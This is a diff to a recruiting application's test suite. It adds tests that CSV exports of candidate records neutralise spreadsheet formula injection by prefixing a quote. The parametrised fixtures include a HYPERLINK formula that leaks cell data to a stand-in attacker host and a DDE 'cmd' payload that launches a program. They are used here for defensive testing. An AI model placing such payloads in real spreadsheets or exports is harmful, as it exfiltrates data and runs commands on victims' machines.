@@ -12,7 +12,7 @@ from sqlmodel import Session, func, select
 from models.audit import AuditLog
 from models.candidate import Application, Candidate, StageChange
 from models.common import Stage, utcnow
-from services import candidates, jobs
+from services import candidates, jobs, spreadsheet
 from services.candidates import DuplicateCandidate
 from services.errors import Conflict, InvalidTransition, NotAllowed, NotFound, ValidationError
 
@@ -671,3 +671,35 @@ def test_a_number_with_and_without_chinas_country_code_is_the_same_phone(make, s
     assert [c.id for c in caught.value.existing] == [first.id]
     found = candidates.search_candidates(session=session, actor=recruiter, q="0086 138 0013")
     assert [r["id"] for r in found.rows] == [first.id]
+
+
+@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(1+1)"])
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_a_formula(session, make, hostile) -> None:
+    recruiter = make.user("recruiter")
+    make.candidate(actor=recruiter, name=hostile, wechat_id=hostile[:60], tags="")
+    text = "".join(candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff")
+    lines = text.splitlines()
+    assert lines[1].startswith('"'), "every field is quoted"
+    [row] = list(csv.reader(io.StringIO(text)))[1:]
+    record = dict(zip(candidates.EXPORT_COLUMNS, row, strict=True))
+    # Names are stripped on save; what was stored must come back with one leading quote, never live.
+    for column in ("name", "wechat_id"):
+        assert record[column][0] == "'", (column, record[column])
+        assert record[column][1:] == hostile[:60 if column == "wechat_id" else None]
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\t=1"])
+def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(cell) -> None:
+    assert spreadsheet.safe_cell(cell) == "'" + cell
+    assert spreadsheet.safe_cell("plain " + cell) == "plain " + cell
+    assert spreadsheet.safe_cell(42) == 42
+
+
+def test_the_csv_export_leaves_ordinary_cells_as_they_are(session, make) -> None:
+    recruiter = make.user("recruiter")
+    make.candidate(actor=recruiter, name="O'Brien 张", email="ob@example.com", phone="13800138000")
+    [row] = list(csv.reader(io.StringIO("".join(
+        candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff"))))[1:]
+    record = dict(zip(candidates.EXPORT_COLUMNS, row, strict=True))
+    assert (record["name"], record["email"], record["phone"]) == ("O'Brien 张", "ob@example.com", "13800138000")
